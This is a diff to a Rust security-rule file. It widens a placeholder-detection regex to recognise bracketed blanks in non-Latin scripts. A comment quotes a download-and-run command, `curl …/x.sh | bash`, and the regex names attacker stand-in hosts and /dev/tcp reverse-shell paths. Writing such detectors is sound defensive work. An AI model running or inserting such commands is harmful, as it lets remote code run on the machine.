@@ -9726,8 +9726,10 @@ pub static RULES: &[Rule] = &[
 /// live `curl http://203.0.113.7/x.sh | bash` only warned.) A reserved
 /// example domain is a placeholder only where the host ends with it:
 /// `example.com.relay.dev` is someone's real host (the lead, after
-/// holes43).
-pub(crate) const PLACEHOLDER: &str = r"<(?:[\w.-]*[\s_-])?(?i:ip|host|hostname|addr|address|port|server|domain|url|attacker|your|lhost|lport|target|c2)(?:[\s_-][\w .-]*)?>|(?:^|[^$\w{])(?:ATTACKER_IP|ATTACKER_HOST|ATTACKER|LHOST|LPORT|RHOST|RPORT|YOUR_IP|YOUR_SERVER|YOUR_HOST|HOST|PORT|IP_ADDRESS|REMOTE_HOST|C2_SERVER|EVIL_HOST)\b|\bx\.x\.x\.x\b|\b(?:www\.)?example\.(?:com|org|net)\.?(?:[^\w.-]|$)|\battacker\.(?:example|tld)\.?(?:[^\w.-]|$)|/dev/(?:tcp|udp)/(?:attacker|attacker_ip|attacker_host|evil|lhost|your_ip)/";
+/// holes43). fp82: a bracketed blank in any script's letters (`<公钥内容>`,
+/// `<ключ>`, `<clé publique>`) is a blank as `<your-key>` is; a real key
+/// (`ssh-ed25519 AAAA…`) on the line has no bracket to hide behind.
+pub(crate) const PLACEHOLDER: &str = r"<(?:[\w.-]*[\s_-])?(?i:ip|host|hostname|addr|address|port|server|domain|url|attacker|your|lhost|lport|target|c2)(?:[\s_-][\w .-]*)?>|<[\w .-]*[\p{L}&&[^\x00-\x7F]][\w .-]*>|(?:^|[^$\w{])(?:ATTACKER_IP|ATTACKER_HOST|ATTACKER|LHOST|LPORT|RHOST|RPORT|YOUR_IP|YOUR_SERVER|YOUR_HOST|HOST|PORT|IP_ADDRESS|REMOTE_HOST|C2_SERVER|EVIL_HOST)\b|\bx\.x\.x\.x\b|\b(?:www\.)?example\.(?:com|org|net)\.?(?:[^\w.-]|$)|\battacker\.(?:example|tld)\.?(?:[^\w.-]|$)|/dev/(?:tcp|udp)/(?:attacker|attacker_ip|attacker_host|evil|lhost|your_ip)/";
 
 /// Words that make a prose line a warning or an explanation (SEC-4).
 /// "Do not do this:" and a cross mark (`❌`, or a table cell of "never"
